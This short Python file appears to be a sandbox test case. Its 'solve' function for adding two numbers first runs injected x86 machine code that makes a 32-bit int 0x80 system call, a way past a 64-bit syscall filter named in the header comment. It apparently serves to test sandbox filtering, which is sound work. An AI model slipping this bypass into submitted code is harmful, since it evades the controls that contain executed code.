# Attack: calls by the gate of 32-bit programs, which a filter for 64 bits does not see.
# task: add
# runs: always
# shows: no filter
import ctypes
import mmap
import platform


def solve(a, b):
    if platform.machine() != "x86_64":
        return None
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(b"\x53\xb8\x14\x00\x00\x00\xcd\x80\x5b\xc3")
    start = ctypes.addressof(ctypes.c_char.from_buffer(page))
    return a + b if ctypes.CFUNCTYPE(ctypes.c_int)(start)() > 0 else None
